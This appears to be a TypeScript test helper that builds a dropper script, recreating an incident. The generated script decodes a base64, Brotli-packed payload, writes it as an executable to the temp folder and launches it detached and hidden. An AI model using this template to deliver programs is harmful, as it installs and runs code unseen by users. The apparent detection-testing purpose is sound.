export const unpackLine =
  "fs.writeFileSync(file, zlib.brotliDecompressSync(Buffer.from(packed, 'base64')), { mode: 0o755 });"

export const startLine = "spawn(file, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();"

/**
 * A script that takes a program out of a packed text, writes it to the folder for temporary files and starts it apart from whoever
 * runs the script. The text is no program: it unpacks to nothing that a system would start. Seven megabytes in the incident.
 */
export const startPacked = (content: string): string => `const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const { spawn } = require('child_process');
const packed = '${Buffer.from(content).toString('base64')}';
const file = path.join(os.tmpdir(), 'intro-' + process.platform + (process.platform === 'win32' ? '.exe' : ''));
${unpackLine}
${startLine}
`
